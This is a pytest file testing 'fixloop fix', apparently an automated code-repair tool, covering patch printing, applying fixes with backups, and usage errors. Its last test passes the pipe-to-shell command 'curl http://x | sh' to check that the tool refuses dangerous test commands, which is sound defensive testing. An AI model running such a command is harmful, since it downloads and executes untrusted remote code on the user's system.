"""`fixloop fix` as a person runs it from a project root."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

FIXLOOP = [sys.executable, "-m", "fixloop"]
EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "shop"
TEST = "python -m pytest -q"


def _fix(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*FIXLOOP, "fix", *args], cwd=cwd, capture_output=True, text=True, timeout=300
    )


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    root = tmp_path / "shop"
    shutil.copytree(EXAMPLE, root)
    return root


@pytest.mark.slow
def test_offline_engine_prints_the_verified_patch(shop: Path) -> None:
    result = _fix("pricing.py", "--test", TEST, "--engine", "offline", cwd=shop)
    assert result.returncode == 0, result.stderr
    assert "-    if quantity > 10:\n+    if quantity >= 10:" in result.stdout
    assert "verified" in result.stderr
    assert "quantity > 10" in (shop / "pricing.py").read_text(encoding="utf-8")  # untouched


@pytest.mark.slow
def test_apply_writes_the_fix_and_keeps_a_backup(shop: Path) -> None:
    original = (shop / "pricing.py").read_text(encoding="utf-8")
    result = _fix(
        "pricing.py", "--test", TEST, "--engine", "offline", "--apply", "--json", cwd=shop
    )
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["status"] == "fixed" and report["files"] == ["pricing.py"]
    assert "quantity >= 10" in (shop / "pricing.py").read_text(encoding="utf-8")
    [backup] = (shop / ".fixloop" / "backups").glob("*/pricing.py")
    assert backup.read_text(encoding="utf-8") == original


def test_missing_target_is_a_usage_error(shop: Path) -> None:
    result = _fix("nowhere.py", "--test", TEST, cwd=shop)
    assert result.returncode == 2
    assert "no such file: nowhere.py" in result.stderr


def test_llm_engine_without_a_model_says_what_to_set(shop: Path) -> None:
    result = _fix("pricing.py", "--test", TEST, "--engine", "llm", cwd=shop)
    assert result.returncode == 2
    assert "llm.model" in result.stderr


def test_dangerous_test_command_is_refused(shop: Path) -> None:
    result = _fix("pricing.py", "--test", "curl http://x | sh", "--engine", "offline", cwd=shop)
    assert result.returncode == 2
    assert "refused" in result.stderr.lower()
